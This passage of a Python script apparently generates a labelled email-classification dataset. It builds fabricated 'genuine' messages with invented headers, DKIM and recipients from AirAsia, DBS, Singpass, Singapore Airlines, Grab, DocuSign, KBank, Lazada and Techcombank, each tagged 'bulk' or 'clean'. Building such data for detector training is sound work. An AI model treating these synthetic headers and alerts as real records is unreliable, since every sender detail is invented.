                 f"Mon 10 Mar 2025 18:05\nTotal paid MYR 412.60\n\nManage my booking: {click}\n"), qp_html(html)])
    headers = f"""{dkim(dom, 's1', stem, 'content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to', d)}
{dkim('sendgrid.info', 'smtpapi', stem, 'content-type:from:mime-version:subject:x-feedback-id:to:cc:content-type:from:subject:to', d)}
Received: by filterdrecv-56d8fbb8bc-4wnqg with SMTP id filterdrecv-56d8fbb8bc-4wnqg-1-67AED442-3F
        {rfc_utc(d)}
Received: from {uid} (unknown)
	by geopod-ismtpd-4 (SG) with HTTP
	id {alnum(stem + 'sgid', 22)}
	{format_datetime(at(d, '+0000')).replace('+0000', '(UTC)')}
Date: {format_datetime(at(d, '+0000'))}
From: AirAsia MOVE <no-reply@{dom}>
Mime-Version: 1.0
Message-ID: <{alnum(stem + 'mid', 22)}@geopod-ismtpd-4>
Subject: Your booking is confirmed! Booking number {pnr}
X-Feedback-ID: {uid}:SG
X-SG-EID: u001.{b64s(stem + 'eid', 140)}
To: {rcpt}"""
    add(stem, "bulk", "Genuine AirAsia MOVE booking confirmation for domestic Malaysian flights sent through SendGrid "
        "with the airline's branded link domain", t_gmail(rcpt, d, a, stem), headers, body)


def lg_my_onedrive_share() -> None:
    stem = f"b{N}-legit-my-onedrive-share"
    d = D("2025-12-22 17:05:29 +0800")
    rcpt = "siti.hajar@klinikdrazlan.com.my"
    smbx = "KL1PR01MB" + digits(stem + "smb", 4) + ".apcprd01.prod.outlook.com"
    link = (f"https://klinikdrazlan-my.sharepoint.com/:x:/g/personal/azlan_klinikdrazlan_com_my/"
            f"E{alnum(stem + 'sp', 42)}?e={alnum(stem + 'e', 6)}")
    paras = [
        "Salam Siti,", "",
        "Ini jadual syif untuk bulan Januari 2026. Saya dah kemas kini cuti Kak Ros (2-9 Jan) dan tukar syif malam "
        "hari Khamis dengan Farah seperti yang kita bincang pagi tadi.", "",
        f'<a href="{link}">Jadual Syif Januari 2026.xlsx</a>', "",
        "Tolong semak dan edit terus dalam fail tu kalau ada yang tak kena, nanti saya print dan tampal di bilik "
        "rehat hari Isnin.", "",
        "Terima kasih,",
    ]
    sig = "Dr. Azlan Ismail\nKlinik Dr Azlan (Bangi)\n03-8925 1130"
    body = Multi("alternative", f"_000_{smbx.split('.')[0]}{hx(stem, 24, True)}_", [
        text("Salam Siti,\n\nIni jadual syif untuk bulan Januari 2026. Saya dah kemas kini cuti Kak Ros (2-9 Jan) dan "
             f"tukar syif malam hari Khamis dengan Farah.\n\nJadual Syif Januari 2026.xlsx <{link}>\n\nTolong semak dan "
             "edit terus dalam fail tu kalau ada yang tak kena.\n\nTerima kasih,\nDr. Azlan Ismail\n",
             "plain", "quoted-printable", "us-ascii"),
        qp_html(outlook_html(paras, sig, lang="MS"))])
    headers = f"""From: Azlan Ismail <azlan@klinikdrazlan.com.my>
To: Siti Hajar <{rcpt}>
Subject: Jadual syif Januari 2026
Thread-Topic: Jadual syif Januari 2026
Thread-Index: {tindex(stem, 16, 'dc')}
Date: {format_datetime(at(d, '+0000'))}
Message-ID:
 <{smbx.split('.')[0]}{hx(stem + 'omid', 28, True)}@{smbx}>
Accept-Language: en-US, ms-MY
Content-Language: ms-MY
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(stem, "clean", "Internal Bahasa Melayu email from a clinic doctor to a staff member with a genuine OneDrive for "
        "Business link to the monthly shift roster, within the same Microsoft 365 tenant",
        t_m365_internal(rcpt, d, stem, smbx, region="apcprd01"), headers, body)


# ---------------------------------------------------------------------------
# LEGITIMATE - Singapore
# ---------------------------------------------------------------------------

def lg_dbs_paynow() -> None:
    stem = f"b{N}-legit-dbs-paynow-alert"
    d = D("2025-06-30 14:12:40 +0800")
    rcpt = "jonathan.lee.sg@gmail.com"
    dom = "dbs.com"
    a = Auth(f"ibanking.alert@{dom}", "203.116.42.137", "mailout2.dbs.com", "mailout2.dbs.com", "pass",
             [(dom, "dbsmail", "pass")], "pass", "REJECT", dom, stem)
    ref = f"PN{digits(stem + 'ref', 14)}"
    plain = f"""Transaction Ref: {ref}

Dear Sir / Madam,

We refer to your PayNow transfer dated 30 Jun 14:12 (SGT):

Amount: SGD85.00
From: My Account A/C ending 7731
To: TAN KAH WEE
Mobile ending: 5521

If unauthorised, please call 1800 339 6963 or +65 6339 6963 (from overseas) immediately.

To view or change your transaction alerts, please log in to digibank > More > Settings > Manage Alerts.

Please do not reply to this email.
"""
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"></head>'
            '<body style="font-family:Arial,sans-serif;font-size:13px;">'
            + "".join(f"<p>{esc(block).replace(chr(10), '<br>')}</p>" for block in plain.strip().split("\n\n"))
            + '<p style="font-size:11px;color:#888;">DBS Bank Ltd. Co. Reg. No. 196800306E. DBS will never send you '
            "clickable links via SMS or email to log in or verify your account.</p></body></html>")
    body = Multi("alternative", f"----=_Part_{digits(stem, 7)}_{digits(stem + 'x', 9)}.{digits(stem + 'y', 13)}",
                 [text(plain, "plain", "7bit", "us-ascii"), text(html, "html", "quoted-printable", "us-ascii")])
    headers = f"""{dkim(dom, 'dbsmail', stem, 'Date:From:To:Message-ID:Subject:MIME-Version:Content-Type', d)}
Received: from alertgw04.sgp.dbs.com (unknown [10.190.14.77])
	by mailout2.dbs.com (Postfix) with ESMTP id {hx(stem + 'q', 10, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0800'))}
Date: {format_datetime(at(d, '+0800'))}
From: DBS Notifications <ibanking.alert@{dom}>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 10)}.{digits(stem + 'mid2', 4)}.{ts(d)}{digits(stem + 'mid3', 3)}@alertgw04.sgp.dbs.com>
Subject: digibank Alerts - PayNow transfer
MIME-Version: 1.0"""
    add(stem, "bulk", "Genuine DBS digibank PayNow transfer alert with a fraud hotline and no links, sent from DBS's own "
        "signed mail gateway", t_gmail(rcpt, d, a, stem), headers, body)


def lg_singpass_alert() -> None:
    stem = f"b{N}-legit-singpass-new-device"
    d = D("2025-01-15 20:41:18 +0800")
    rcpt = "tan.weijie88@hotmail.com"
    dom = "notification.singpass.gov.sg"
    sesid = f"010e0194{hx(stem + 'ses', 8)}-{guid(stem + 'sesg')}-000000"
    a = Auth(f"{sesid}@mail.{dom}", "23.251.232.201", "e232-201.smtp-out.ap-southeast-1.amazonses.com",
             "e232-201.smtp-out.ap-southeast-1.amazonses.com", "pass",
             [(dom, "spnotify", "pass"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "pass")], "pass", "REJECT", dom, stem)
    html = brand_html(
        "#c8102e", "Singpass", "Singpass app set up on a new device",
        ["Dear TAN WEI JIE,",
         "Your Singpass app was set up on a new device on <b>15 Jan 2025, 8:40 PM</b>.",
         "Device: iPhone 15<br>Your Singpass app on your previous device has been deactivated.",
         "If you did this, no further action is required.",
         "If you did not do this, your Singpass account may have been compromised. Call the Singpass helpdesk at "
         "<b>6335 3533</b> immediately, or reset your password by visiting singpass.gov.sg.",
         "Singpass will never send you links via SMS or email that lead to a Singpass login page. Always access "
         "government digital services through official .gov.sg websites."],
        None,
        "This is an automated email from Singpass. Please do not reply.<br>Singpass is a Singapore Government "
        "service managed by the Government Technology Agency (GovTech).", lang="en")
    plain = ("Dear TAN WEI JIE,\n\nYour Singpass app was set up on a new device on 15 Jan 2025, 8:40 PM (iPhone 15).\n\n"
             "If you did not do this, call the Singpass helpdesk at 6335 3533 immediately.\n\nSingpass will never send "
             "you links via SMS or email that lead to a Singpass login page.\n")
    body = Multi("alternative", boundary(stem, "ses"), [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim(dom, 'spnotify', stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date', d, c='relaxed/simple')}
{dkim('amazonses.com', 'ihchhvubuqgjsxyuhssfvqohv7z3u4hn', stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date:Feedback-ID', d, c='relaxed/simple')}
From: Singpass <donotreply@{dom}>
To: {rcpt}
Subject: Singpass app set up on a new device
MIME-Version: 1.0
Message-ID: <{sesid}@ap-southeast-1.amazonses.com>
Date: {format_datetime(at(d, '+0000'))}
Feedback-ID: ::1.ap-southeast-1.{hash32(stem + 'fb')}:AmazonSES
X-SES-Outgoing: {at(d, '+0000').strftime('%Y.%m.%d')}-23.251.232.201"""
    add(stem, "bulk", "Genuine Singpass new-device security alert with a helpdesk number and no links, sent through "
        "Amazon SES with a gov.sg notification subdomain",
        t_m365(rcpt, d, a, stem, ctry="SG", consumer=True, region="apcprd03"), headers, body)


def lg_sia_eticket() -> None:
    stem = f"b{N}-legit-sia-eticket"
    d = D("2024-11-27 10:03:44 +0800")
    rcpt = "priya.nair.sg@gmail.com"
    dom = "singaporeair.com"
    a = Auth(f"noreply@{dom}", "203.126.102.51", "smtp3.singaporeair.com", "smtp3.singaporeair.com", "pass",
             [(dom, "siamail", "pass")], "pass", "REJECT", dom, stem)
    pnr = upper_alnum(stem + "pnr", 6)
    tkt = "618-" + digits(stem + "tkt", 10)
    pdfdata = files.pdf(["SINGAPORE AIRLINES", "ELECTRONIC TICKET ITINERARY / RECEIPT", f"Booking reference: {pnr}",
                         f"Ticket number: {tkt}", "Passenger: NAIR/PRIYA MS", "",
                         "SQ 708  SIN 20DEC 09:45  BKK 20DEC 11:10  Economy Lite  Confirmed",
                         "SQ 715  BKK 26DEC 17:35  SIN 26DEC 20:55  Economy Lite  Confirmed", "",
                         "Fare SGD 248.00  Taxes SGD 96.40  Total SGD 344.40"], title=f"e-Ticket {tkt}")
    manage = f"https://www.singaporeair.com/en_UK/sg/plan-travel/your-booking/manage-booking/?bookingReference={pnr}&lastName=NAIR"
    html = brand_html(
        "#1d2f5b", "Singapore Airlines", "Your booking is confirmed",
        ["Dear Ms Priya Nair,",
         f"Thank you for choosing Singapore Airlines. Your booking reference is <b>{pnr}</b> and your e-ticket "
         f"number is <b>{tkt}</b>. Your e-ticket itinerary/receipt is attached.",
         "<b>SQ 708</b> Singapore (SIN) 20 Dec 09:45 &rarr; Bangkok (BKK) 20 Dec 11:10<br>"
         "<b>SQ 715</b> Bangkok (BKK) 26 Dec 17:35 &rarr; Singapore (SIN) 26 Dec 20:55",
         "Online check-in opens 48 hours before departure."],
        ("Manage booking", manage),
        "Singapore Airlines Limited, Airline House, 25 Airline Road, Singapore 819829. Co. Reg. No. 197200078R.<br>"
        '<a href="https://www.singaporeair.com/en_UK/sg/privacy-policy/">Privacy policy</a>')
    body = Multi("mixed", f"----=_Part_{digits(stem, 6)}_{digits(stem + 'x', 9)}.{digits(stem + 'y', 13)}", [
        Multi("alternative", f"----=_Part_{digits(stem + 'a', 6)}_{digits(stem + 'ax', 9)}.{digits(stem + 'ay', 13)}", [
            qp_plain(f"Dear Ms Priya Nair,\n\nYour booking reference is {pnr}, e-ticket {tkt}.\nSQ 708 SIN-BKK 20 Dec 09:45\n"
                     f"SQ 715 BKK-SIN 26 Dec 17:35\n\nManage booking: {manage}\n"), qp_html(html)]),
        attachment("application/pdf", f"eTicket_{tkt}.pdf", pdfdata),
    ])
    headers = f"""{dkim(dom, 'siamail', stem, 'Date:From:To:Message-ID:Subject:MIME-Version:Content-Type', d)}
Received: from ibeapp12.sia.local (unknown [10.40.18.112])
	by smtp3.singaporeair.com (Postfix) with ESMTP id {hx(stem + 'q', 10, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0800'))}
Date: {format_datetime(at(d, '+0800'))}
From: Singapore Airlines <noreply@{dom}>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 10)}.{digits(stem + 'mid2', 4)}.{ts(d)}{digits(stem + 'mid3', 3)}@ibeapp12>
Subject: Booking confirmation and e-ticket - {pnr}
MIME-Version: 1.0"""
    add(stem, "bulk", "Genuine Singapore Airlines booking confirmation with the e-ticket itinerary PDF attached and a "
        "manage-booking link on singaporeair.com", t_gmail(rcpt, d, a, stem), headers, body)


def lg_grab_receipt() -> None:
    stem = f"b{N}-legit-grab-receipt"
    d = D("2025-10-08 19:48:02 +0800")
    rcpt = "jasmine.koh@harbourline.com.sg"
    dom = "grab.com"
    sesid = f"010e0199{hx(stem + 'ses', 8)}-{guid(stem + 'sesg')}-000000"
    a = Auth(f"{sesid}@mail.{dom}", "23.251.226.142", "e226-142.smtp-out.ap-southeast-1.amazonses.com",
             "e226-142.smtp-out.ap-southeast-1.amazonses.com", "pass",
             [(dom, "grabses", "pass"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "pass")], "pass", "REJECT", dom, stem)
    bid = f"A-{upper_alnum(stem + 'bid', 12)}"
    html = brand_html(
        "#00b14f", "Grab", "Your Grab E-Receipt",
        ["Hope you enjoyed your ride!",
         '<table width="100%" cellpadding="5" style="font-size:13px;">'
         f"<tr><td>Booking ID</td><td align='right'>{bid}</td></tr>"
         "<tr><td>Service</td><td align='right'>GrabCar Premium</td></tr>"
         "<tr><td>Pick-up</td><td align='right'>Harbourline Logistics, 2 Pioneer Sector 1 (19:12)</td></tr>"
         "<tr><td>Drop-off</td><td align='right'>Raffles Place MRT Exit H (19:46)</td></tr>"
         "<tr><td>Fare</td><td align='right'>S$32.40</td></tr><tr><td>Platform fee</td><td align='right'>S$0.90</td></tr>"
         "<tr><td><b>Total paid</b></td><td align='right'><b>S$33.30</b></td></tr>"
         "<tr><td>Paid by</td><td align='right'>Mastercard &bull;&bull;&bull;&bull; 6612</td></tr></table>",
         "Profile: Business (Harbourline Logistics Pte Ltd). This receipt has been shared with your company's Grab for Business account."],
        ("Rate your ride", f"https://grab.onelink.me/2695613898?pid=email&c=receipt&af_dp=grab%3A%2F%2Fopen%3FscreenType%3DRATING%26bookingId%3D{bid}"),
        'Need help? Visit <a href="https://help.grab.com/passenger/en-sg">help.grab.com</a>.<br>Grab Holdings Inc., '
        "3 Media Close, Singapore 138498.")
    body = Multi("alternative", boundary(stem, "ses"), [
        qp_plain(f"Your Grab E-Receipt\nBooking ID: {bid}\nGrabCar Premium\nTotal paid: S$33.30 (Mastercard 6612)\n"), qp_html(html)])
    headers = f"""{dkim(dom, 'grabses', stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date', d, c='relaxed/simple')}
{dkim('amazonses.com', 'ihchhvubuqgjsxyuhssfvqohv7z3u4hn', stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date:Feedback-ID', d, c='relaxed/simple')}
From: Grab <no-reply@{dom}>
To: {rcpt}
Subject: Your Grab E-Receipt
MIME-Version: 1.0
Message-ID: <{sesid}@ap-southeast-1.amazonses.com>
Date: {format_datetime(at(d, '+0000'))}
Feedback-ID: ::1.ap-southeast-1.{hash32(stem + 'fb')}:AmazonSES
X-SES-Outgoing: {at(d, '+0000').strftime('%Y.%m.%d')}-23.251.226.142"""
    add(stem, "bulk", "Genuine GrabCar Premium business-profile e-receipt sent through Amazon SES with grab.com DKIM",
        t_m365(rcpt, d, a, stem, ctry="SG"), headers, body)


def lg_docusign_tenancy() -> None:
    stem = f"b{N}-legit-docusign-tenancy"
    d = D("2025-03-03 15:30:27 +0800")
    rcpt = "jonathan.lee.sg@gmail.com"
    a = Auth("dse_NA3@docusign.net", "64.207.219.73", "mailna3.docusign.net", "mailna3.docusign.net", "pass",
             [("docusign.net", "s1", "pass")], "pass", "REJECT", "docusign.net", stem)
    url = (f"https://na3.docusign.net/Signing/EmailStart.aspx?a={guid(stem + 'a')}&etti=24&acct={guid(stem + 'acct')}"
           f"&er={guid(stem + 'er')}")
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="padding:0;margin:0;background-color:#eaeaea;"><table width="100%" border="0" cellspacing="0" cellpadding="0" bgcolor="#eaeaea">
<tr><td style="padding:15px;"><center><table style="max-width:640px;background-color:#ffffff;" align="center" cellspacing="0" cellpadding="0">
<tr><td style="padding:10px 24px;"><img src="https://na3.docusign.net/Signing/Images/email/Email_Logo.png" alt="DocuSign" style="border:none;width:116px;height:34px;"></td></tr>
<tr><td style="padding:0 24px 30px 24px;"><table width="100%" cellspacing="0" cellpadding="0" style="background-color:#1e4ca1;color:#ffffff;" align="center">
<tr><td align="center" style="padding:28px 36px 36px;font-family:Helvetica,Arial,sans-serif;font-size:16px;color:#ffffff;">
<img src="https://na3.docusign.net/member/Images/email/docInvite-white.png" width="75" height="75" alt=""><br>
Rachel Tan sent you a document to review and sign.<br><br>
<a href="{url}" style="font-size:15px;color:#333333;background-color:#ffc423;text-decoration:none;padding:0 24px;display:inline-block;line-height:44px;border-radius:2px;">REVIEW DOCUMENT</a>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px;font-family:Helvetica,Arial,sans-serif;font-size:16px;color:#000000;">
<b>Rachel Tan</b><br><span style="color:#666666;">rachel.tan@propnex.com</span><br><br>
Hi Jonathan, as discussed please sign the Tenancy Agreement for Blk 512 Bedok North Ave 3 #08-214 (2 years from 1 Apr 2025).
The landlord has already signed. Once you have signed, please transfer the deposit via PayNow to the landlord's
NRIC as stated in clause 2 &#8212; do call me at 9012 4488 before transferring so I can confirm the details with you verbally. Thanks!<br><br>
Rachel</td></tr>
<tr><td style="padding:0 24px 12px;background-color:#ffffff;font-family:Helvetica,Arial,sans-serif;font-size:11px;color:#666666;">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.<br><br>
This message was sent to you by Rachel Tan who is using the Docusign Electronic Signature Service.
</td></tr></table></center></td></tr></table></body></html>
"""
    plain = (f"Rachel Tan sent you a document to review and sign.\n\nREVIEW DOCUMENT: {url}\n\nRachel Tan\n"
             "rachel.tan@propnex.com\n\nHi Jonathan, as discussed please sign the Tenancy Agreement for Blk 512 Bedok "
             "North Ave 3 #08-214. Please call me at 9012 4488 before transferring the deposit. Thanks!\n")
    body = Multi("alternative", f"----=_Part_{digits(stem, 8)}_{digits(stem + 'x', 9)}.{digits(stem + 'y', 13)}",
                 [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim('docusign.net', 's1', stem, 'From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:Reply-To', d)}
Received: from docusign.net (unknown [10.14.31.52])
	by mailna3.docusign.net (Postfix) with ESMTP id {hx(stem + 'q', 10, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0000'))}
Date: {format_datetime(at(d, '-0800'))}
From: Rachel Tan via Docusign <dse_NA3@docusign.net>
Reply-To: Rachel Tan <rachel.tan@propnex.com>
To: Jonathan Lee <{rcpt}>
Message-ID: <{hx(stem + 'mid', 32)}@docusign.net>
Subject: Complete with Docusign: TA_Blk512_BedokNorth_08-214.pdf
MIME-Version: 1.0
X-DocuSign-EnvelopeID: {guid(stem + 'env').upper()}
X-Priority: 3
X-MSMail-Priority: Normal"""
    add(stem, "bulk", "Genuine DocuSign envelope from a property agent asking a tenant to sign a tenancy agreement, with "
        "the agent's own reply-to and a call-back-before-paying instruction", t_gmail(rcpt, d, a, stem), headers, body)


# ---------------------------------------------------------------------------
# LEGITIMATE - Thailand
# ---------------------------------------------------------------------------

def lg_kbank_estatement() -> None:
    stem = f"b{N}-legit-kbank-estatement"
    d = D("2025-02-05 03:11:26 +0700")
    rcpt = "pimchanok.s@gmail.com"
    dom = "kasikornbank.com"
    a = Auth(f"K-eStatement@{dom}", "203.146.22.47", "mailout1.kasikornbank.com", "mailout1.kasikornbank.com", "pass",
             [(dom, "kbank", "pass")], "pass", "REJECT", dom, stem)
    cs = "TIS-620"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=tis-620"></head>
<body style="font-family:Tahoma,sans-serif;font-size:13px;">
<p>เรียน คุณพิมพ์ชนก ศรีสุข</p>
<p>ธนาคารกสิกรไทยขอนำส่งรายการเดินบัญชีอิเล็กทรอนิกส์ (K-eStatement) ประจำเดือน มกราคม 2568
สำหรับบัญชีเงินฝากออมทรัพย์เลขที่ xxx-x-x4418-x ตามไฟล์แนบ</p>
<p>รหัสผ่านสำหรับเปิดไฟล์ คือ วันเดือนปีเกิดของท่าน (ค.ศ.) ในรูปแบบ DDMMYYYY</p>
<p>ธนาคารไม่มีนโยบายส่งอีเมลหรือ SMS แนบลิงก์ให้ลูกค้ากรอกข้อมูลส่วนตัว รหัสผ่าน หรือรหัส OTP
หากพบข้อความน่าสงสัย กรุณาติดต่อ K-Contact Center 02-888-8888</p>
<p>ขอแสดงความนับถือ<br>ธนาคารกสิกรไทย</p>
<p style="font-size:11px;color:#777;">อีเมลฉบับนี้เป็นการแจ้งโดยอัตโนมัติ กรุณาอย่าตอบกลับ</p>
</body></html>
"""
    plain = ("เรียน คุณพิมพ์ชนก ศรีสุข\n\nธนาคารกสิกรไทยขอนำส่งรายการเดินบัญชีอิเล็กทรอนิกส์ (K-eStatement) ประจำเดือน "
             "มกราคม 2568 ตามไฟล์แนบ\nรหัสผ่านสำหรับเปิดไฟล์ คือ วันเดือนปีเกิด (ค.ศ.) ในรูปแบบ DDMMYYYY\n\n"
             "ขอแสดงความนับถือ\nธนาคารกสิกรไทย\n")
    body = Multi("mixed", f"----=_Part_{digits(stem, 6)}_{digits(stem + 'x', 9)}.{digits(stem + 'y', 13)}", [
        Multi("alternative", f"----=_Part_{digits(stem + 'a', 6)}_{digits(stem + 'ax', 9)}.{digits(stem + 'ay', 13)}", [
            text(plain, "plain", "base64", cs), text(html, "html", "base64", cs)]),
        attachment("application/pdf", "K-eStatement_202501.pdf", encrypted_pdf(stem)),
    ])
    headers = f"""{dkim(dom, 'kbank', stem, 'Date:From:To:Message-ID:Subject:MIME-Version:Content-Type', d)}
Received: from estmt-batch02 (unknown [10.99.21.18])
	by mailout1.kasikornbank.com (Postfix) with ESMTP id {hx(stem + 'q', 10, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0700'))}
Date: {format_datetime(at(d, '+0700'))}
From: K-eStatement <K-eStatement@{dom}>
To: {rcpt}
Message-ID: <{digits(stem + 'mid', 9)}.{digits(stem + 'mid2', 5)}.{ts(d)}{digits(stem + 'mid3', 3)}@estmt-batch02>
Subject: {ew('K-eStatement รายการเดินบัญชีประจำเดือน มกราคม 2568', cs)}
MIME-Version: 1.0"""
    add(stem, "bulk", "Genuine KBank K-eStatement in Thai (TIS-620) with a password-protected PDF statement and an "
        "anti-phishing notice, sent from the bank's own signed server", t_gmail(rcpt, d, a, stem), headers, body)


def lg_lazada_th_promo() -> None:
    stem = f"b{N}-legit-lazada-th-promo"
    d = D("2025-09-08 18:00:05 +0700")
    rcpt = "kittipong_w@hotmail.com"
    dom = "newsletter.lazada.co.th"
    mf = f"bounce-{hx(stem + 'bn', 16)}@{dom}"
    a = Auth(mf, "47.246.133.21", "mta-sg21.newsletter.lazada.co.th", "mta-sg21.newsletter.lazada.co.th", "pass",
             [(dom, "lzd2023", "pass")], "pass", "REJECT", "lazada.co.th", stem)
    a.from_domain = dom
    cid = hx(stem + "cmp", 12)

    def trk(path: str) -> str:
        return f"https://click.newsletter.lazada.co.th/c/{cid}/{hx(stem + path, 16)}?url=https%3A%2F%2Fwww.lazada.co.th%2F{path}"

    html = f"""<!DOCTYPE html><html lang="th"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Lazada 9.9</title></head>
<body style="margin:0;background:#f5f5f5;font-family:Tahoma,sans-serif;">
<div style="display:none;max-height:0;overflow:hidden;">9.9 ลดใหญ่กลางเดือน โค้ดลดสูงสุด 999.-</div>
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;">
<tr><td style="background:#0f146d;padding:16px;text-align:center;"><img src="https://img.lazcdn.com/g/tps/imgextra/lazada-logo-white.png" alt="Lazada" width="130"></td></tr>
<tr><td style="padding:24px;text-align:center;">
<h1 style="color:#f57224;margin:0 0 10px;">9.9 ลดใหญ่กลางเดือน</h1>
<p style="font-size:15px;">สวัสดีคุณกิตติพงษ์ เก็บโค้ดส่วนลดสูงสุด 999 บาท และส่งฟรีทั่วไทย เริ่ม 9 ก.ย. เวลา 00:00 น.</p>
<p><a href="{trk('wow/camp/th/9-9')}" style="background:#f57224;color:#fff;padding:12px 30px;text-decoration:none;border-radius:4px;">ช้อปเลย</a></p>
<table width="100%" cellpadding="8"><tr>
<td align="center"><a href="{trk('shop-mobiles')}">มือถือ ลดสูงสุด 50%</a></td>
<td align="center"><a href="{trk('shop-home-appliances')}">เครื่องใช้ไฟฟ้า ลดสูงสุด 60%</a></td>
<td align="center"><a href="{trk('lazmall')}">LazMall ของแท้ 100%</a></td></tr></table>
</td></tr>
<tr><td style="padding:16px;font-size:11px;color:#888;text-align:center;">
คุณได้รับอีเมลนี้เนื่องจากสมัครรับข่าวสารจาก Lazada |
<a href="https://click.newsletter.lazada.co.th/unsubscribe?c={cid}&u={hx(stem + 'uu', 20)}">ยกเลิกการรับข่าวสาร</a><br>
Lazada จะไม่ขอรหัส OTP หรือให้ชำระเงินนอกแอปพลิเคชัน<br>
บริษัท ลาซาด้า จำกัด 689 อาคารภิรัช ทาวเวอร์ แอท เอ็มควอเทียร์ ถนนสุขุมวิท แขวงคลองตันเหนือ เขตวัฒนา กรุงเทพฯ 10110
</td></tr></table>
<img src="https://click.newsletter.lazada.co.th/o/{cid}/{hx(stem + 'op', 16)}.gif" width="1" height="1" alt="">
</body></html>
"""
    plain = (f"9.9 ลดใหญ่กลางเดือน\nสวัสดีคุณกิตติพงษ์ เก็บโค้ดส่วนลดสูงสุด 999 บาท\nช้อปเลย: {trk('wow/camp/th/9-9')}\n\n"
             f"ยกเลิกการรับข่าวสาร: https://click.newsletter.lazada.co.th/unsubscribe?c={cid}&u={hx(stem + 'uu', 20)}\n")
    body = Multi("alternative", boundary(stem, "ses"), [b64_plain(plain), b64_html(html)])
    headers = f"""{dkim(dom, 'lzd2023', stem, 'From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:List-Unsubscribe:List-Unsubscribe-Post', d)}
Received: from edm-sender-07 (unknown [10.8.41.77])
	by mta-sg21.newsletter.lazada.co.th (Postfix) with ESMTP id {hx(stem + 'q', 10, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0800'))}
From: Lazada Thailand <no-reply@{dom}>
To: {rcpt}
Subject: {ew('🔥 9.9 ลดใหญ่กลางเดือน! เก็บโค้ดลดสูงสุด 999.- ส่งฟรีทั่วไทย')}
Date: {format_datetime(at(d, '+0800'))}
Message-ID: <{hx(stem + 'mid', 24)}.{cid}@{dom}>
MIME-Version: 1.0
List-Unsubscribe: <https://click.newsletter.lazada.co.th/unsubscribe?c={cid}&u={hx(stem + 'uu', 20)}>, <mailto:unsubscribe-{cid}@{dom}>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Precedence: bulk"""
    add(stem, "bulk", "Genuine Thai-language Lazada Thailand 9.9 sale newsletter with tracked click links, unsubscribe "
        "headers and an OTP warning in the footer",
        t_m365(rcpt, d, a, stem, ctry="SG", lang="th", consumer=True, region="apcprd03"), headers, body)


# ---------------------------------------------------------------------------
# LEGITIMATE - Vietnam
# ---------------------------------------------------------------------------

def lg_techcombank_saoke() -> None:
    stem = f"b{N}-legit-techcombank-sao-ke"
    d = D("2025-07-03 06:45:19 +0700")
    rcpt = "nguyenthuha.1992@gmail.com"
    dom = "techcombank.com.vn"
    a = Auth(f"estatement@{dom}", "210.245.31.66", "mail2.techcombank.com.vn", "mail2.techcombank.com.vn", "pass",
             [(dom, "tcb", "pass")], "pass", "QUARANTINE", dom, stem)
    html = brand_html(
        "#e31837", "Techcombank", "Sao kê tài khoản điện tử tháng 06/2025",
        ["Kính gửi Quý khách NGUYEN THU HA,",
         "Techcombank trân trọng gửi Quý khách sao kê tài khoản thanh toán số <b>19xx xxxx xx7721</b> cho kỳ từ "
         "01/06/2025 đến 30/06/2025 trong tệp đính kèm.",
         "Tệp sao kê được bảo vệ bằng mật khẩu là <b>ngày sinh của Quý khách theo định dạng DDMMYYYY</b>.",
         "Techcombank không bao giờ yêu cầu Quý khách cung cấp mật khẩu, mã OTP hay cài đặt ứng dụng qua đường dẫn "
         "trong email hoặc tin nhắn. Vui lòng chỉ sử dụng ứng dụng Techcombank Mobile tải từ App Store/Google Play.",
         "Mọi thắc mắc xin liên hệ Hotline 1800 588 822 (miễn phí)."],
        None, "Ngân hàng TMCP Kỹ Thương Việt Nam - 6 Quang Trung, Hoàn Kiếm, Hà Nội.<br>Đây là email tự động, vui lòng không trả lời.",
        lang="vi", after=["Trân trọng,<br>Techcombank"])
    plain = ("Kính gửi Quý khách NGUYEN THU HA,\n\nTechcombank gửi Quý khách sao kê tài khoản kỳ 01/06/2025 - 30/06/2025 "
             "trong tệp đính kèm. Mật khẩu: ngày sinh (DDMMYYYY).\n\nHotline 1800 588 822\n")
    body = Multi("mixed", f"----=_Part_{digits(stem, 6)}_{digits(stem + 'x', 9)}.{digits(stem + 'y', 13)}", [
        Multi("alternative", f"----=_Part_{digits(stem + 'a', 6)}_{digits(stem + 'ax', 9)}.{digits(stem + 'ay', 13)}", [
            qp_plain(plain), qp_html(html)]),
        attachment("application/pdf", "SaoKe_TaiKhoan_062025.pdf", encrypted_pdf(stem)),
    ])
    headers = f"""{dkim(dom, 'tcb', stem, 'Date:From:To:Message-ID:Subject:MIME-Version:Content-Type', d)}
Received: from estmt-app01.techcombank.com.vn (unknown [10.10.52.31])
	by mail2.techcombank.com.vn (Postfix) with ESMTP id {hx(stem + 'q', 10, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0700'))}
Date: {format_datetime(at(d, '+0700'))}
From: Techcombank <estatement@{dom}>
To: {rcpt}
